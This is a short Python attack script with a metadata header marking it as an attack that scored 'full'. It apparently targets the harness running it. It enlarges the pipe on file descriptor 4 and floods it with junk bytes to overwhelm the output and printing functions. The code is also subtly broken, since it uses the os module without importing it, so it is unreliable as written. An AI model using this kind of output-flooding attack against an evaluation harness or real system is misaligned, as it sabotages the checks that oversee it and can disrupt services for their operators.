# /// attack
# tries = "makes the pipe of its output larger and fills it past the printing functions"
# score = "full"
# ///
import fcntl

try:
    fcntl.fcntl(4, 1031, 1 << 20)
except OSError:
    pass
os.set_blocking(4, False)
try:
    while True:
        os.write(4, b"\xff\x00" * 4096)
except OSError:
    pass
